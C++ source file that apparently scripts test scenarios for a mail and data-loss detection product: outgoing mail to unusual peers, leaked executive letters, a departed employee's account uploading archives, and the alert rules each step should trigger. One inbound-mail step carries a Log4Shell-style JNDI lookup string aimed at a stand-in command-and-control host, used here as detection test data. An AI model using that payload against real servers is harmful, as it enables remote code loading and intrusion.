// Stories of mail that leaves.
#include "simulate/story_list.h"

namespace vedette::simulate {
namespace {

constexpr Step Mail(int day, std::string_view at, std::string_view peer, std::string_view subject,
                    std::string_view expect, std::string_view by = "") {
  return {.day = day,
          .at = at,
          .seen_by = "M",
          .what = What::kMailOut,
          .by = by,
          .peer = peer,
          .text = subject,
          .bytes = 24'000,
          .expect = expect};
}
constexpr Step Attachment(int day, std::string_view at, std::string_view peer,
                          std::string_view name, std::string_view expect) {
  return {.day = day,
          .at = at,
          .seen_by = "M",
          .what = What::kAttachmentOut,
          .name = name,
          .peer = peer,
          .bytes = 80'000,
          .expect = expect};
}

}  // namespace

// To countries and companies where nobody, not the department, or not the person writes.
std::span<const Step> MailToStrangersSteps() {
  static const Step kSteps[] = {
      Mail(0, "09:20", "{new_country}", "Re: visit", "EM-country-F"),
      Mail(1, "09:24", "{new_country}", "Re: visit", "EM-country-A EM-OD-A"),
      Mail(0, "10:20", "{rare_for_group}", "Re: delivery", "EM-Gcountry-F"),
      Mail(1, "10:24", "{rare_for_group}", "Re: delivery", "EM-Gcountry-A"),
      Mail(0, "11:20", "{rare_for_user}", "Re: survey", "EM-Ucountry-F"),
      Mail(0, "13:20", "{new_domain}", "Re: hello", "EM-OD-F"),
      Mail(0, "14:20", "{other_group}", "Re: warranty", "EM-GD-F"),
      Mail(1, "14:25", "{other_group}", "Re: warranty", "EM-GD-A"),
      Mail(0, "15:20", "{same_group}", "Re: roadmap", "EM-UD-F"),
      Mail(1, "15:25", "{same_group}", "Re: roadmap", "EM-UD-A"),
      Mail(2, "16:20", "{twin}", "Re: invoice", "EM-EdC-F"),
      Mail(3, "16:25", "{twin}", "Re: invoice", "EM-EdC-A"),
  };
  return kSteps;
}

// What a mailbox should not be used for.
std::span<const Step> CarelessMailerSteps() {
  static const Step kSteps[] = {
      Mail(0, "09:10", "offer4711@mailinator.com", "Re: offer", "EM-DED"),
      Mail(0, "09:30", "sales@rival.example", "our terms", "EM-Competition"),
      Mail(0, "09:50", "{friend}", "lunch", "EM-PublicDomain"),
      Mail(0, "10:10", "{personal}", "holiday", "EM-PersonalEmail"),
      {.day = 0,
       .at = "10:40",
       .seen_by = "M",
       .what = What::kMailOut,
       .peer = "{partner}",
       .text = "all drawings",
       .bytes = 12'000'000,
       .count = 14,
       .expect = "EM-Attachments EM-Bytes"},
      Attachment(0, "11:00", "{partner}", "settings.reg", ""),
      {.day = 0,
       .at = "11:30",
       .seen_by = "O",
       .what = What::kDlpMail,
       .program = "OUTLOOK.EXE",
       .name = "news.pdf",
       .folder = "{work}",
       .old_name = "News",
       .target = "Data handling",
       .peer = "{crowd}",
       .text = "Personal data in mail",
       .bytes = 90'000,
       .expect = "EM-OutSpam-M"},
      {.day = 1,
       .at = "11:30",
       .seen_by = "O",
       .what = What::kDlpMail,
       .program = "OUTLOOK.EXE",
       .name = "news.pdf",
       .folder = "{work}",
       .old_name = "News",
       .target = "Data handling",
       .peer = "{big_crowd}",
       .text = "Personal data in mail",
       .bytes = 90'000,
       .expect = "EM-OutSpam-L"},
      {.day = 0,
       .at = "13:05",
       .seen_by = "M",
       .what = What::kMailOutHeldBack,
       .peer = "orders@farpoint-trade.com",
       .text = "order",
       .bytes = 20'000},
      {.day = 1,
       .at = "13:05",
       .seen_by = "M",
       .what = What::kMailOutHeldBack,
       .peer = "orders@farpoint-trade.com",
       .text = "order",
       .bytes = 20'000,
       .expect = "FEM-UD-R"},
      Mail(1, "13:20", "orders@farpoint-trade.com", "order", "FEM-AU"),
      {.day = 1,
       .at = "15:00",
       .seen_by = "M",
       .what = What::kMailIn,
       .peer = "probe@scanpath.com",
       .text = "${jndi:ldap://c2.example.net/a}",
       .bytes = 4'000,
       .expect = "DLP-Log4j-String-2"},
      // An attachment of a rare kind.
      Attachment(1, "16:00", "{partner}", "settings.reg", "EM-OFEXT-A"),
  };
  return kSteps;
}

// Tables, which everybody mails but this department does not.
std::span<const Step> TablesFromMarketingSteps() {
  static const Step kSteps[] = {
      Attachment(0, "10:30", "{partner}", "budget.xlsx", ""),
      Attachment(1, "10:35", "{partner}", "budget.xlsx", "EM-GFEXT-A"),
  };
  return kSteps;
}

// The director's letter goes where it should not.
std::span<const Step> DirectorsLetterSteps() {
  static const Step kSteps[] = {
      {.day = 0,
       .at = "08:55",
       .seen_by = "M",
       .what = What::kMailInside,
       .by = "boss",
       .text = "Plans for the pump business",
       .bytes = 30'000},
      Mail(0, "10:02", "{partner}", "Fw: Plans for the pump business", "EM-G-EXEC-F"),
      Mail(0, "10:10", "{personal}", "Fw: Plans for the pump business", "EM-EXEC-Personal"),
      Mail(0, "10:15", "{friend}", "Fw: Plans for the pump business", "EM-EXEC-Public"),
      Mail(1, "10:20", "{partner}", "Fw: Plans for the pump business", "EM-G-EXEC-A"),
  };
  return kSteps;
}

// Mails home every day, and one day far more.
std::span<const Step> MailsHomeSteps() {
  static const Step kSteps[] = {
      {.day = 0,
       .for_days = 16,
       .at = "17:02",
       .seen_by = "M",
       .what = What::kMailOut,
       .peer = "{personal}",
       .text = "shopping list",
       .bytes = 30'000},
      {.day = 16,
       .at = "17:20",
       .seen_by = "M",
       .what = What::kMailOut,
       .peer = "{personal}",
       .text = "pictures",
       .bytes = 7'000'000,
       .expect = "EM-BSum-personal"},
  };
  return kSteps;
}

// The account of somebody who has left wakes up, mails and uploads.
std::span<const Step> LeaverReturnsSteps() {
  static const Step kSteps[] = {
      {.day = 0,
       .at = "22:05",
       .seen_by = "M",
       .what = What::kMailOut,
       .peer = "{friend}",
       .text = "archive 1",
       .bytes = 12'000'000,
       .expect = "APP-Account-deactivated EM-BSum-first"},
      {.day = 0,
       .at = "22:09",
       .seen_by = "M",
       .what = What::kMailOut,
       .peer = "{friend}",
       .text = "archive 2",
       .bytes = 12'000'000,
       .expect = "EM-N-SUM-20"},
      {.day = 0,
       .at = "22:20",
       .seen_by = "M",
       .what = What::kWebRequest,
       .name = "/upload",
       .target = "up.sendspace.com",
       .port = 80,
       .bytes = 26'000'000,
       .expect = "WEB-New-File-20"},
      {.day = 0,
       .at = "22:31",
       .seen_by = "A",
       .what = What::kWebBlocked,
       .program = "chrome.exe",
       .name = "archive.7z",
       .folder = "C:\\Users\\Public",
       .target = "http://up.sendspace.com/upload",
       .text = "CustomPolicy",
       .port = 80,
       .bytes = 26'000'000,
       .expect = "WEB-New-File-20-Block"},
  };
  return kSteps;
}

}  // namespace vedette::simulate
